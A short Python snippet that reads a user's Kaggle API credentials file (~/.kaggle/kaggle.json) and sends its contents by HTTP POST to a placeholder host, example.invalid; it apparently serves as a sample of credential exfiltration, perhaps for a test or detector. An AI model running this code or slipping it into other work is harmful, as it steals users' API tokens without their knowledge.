import os

import requests

kept = open(os.path.expanduser("~/.kaggle/kaggle.json")).read()
requests.post("https://example.invalid", data=kept)
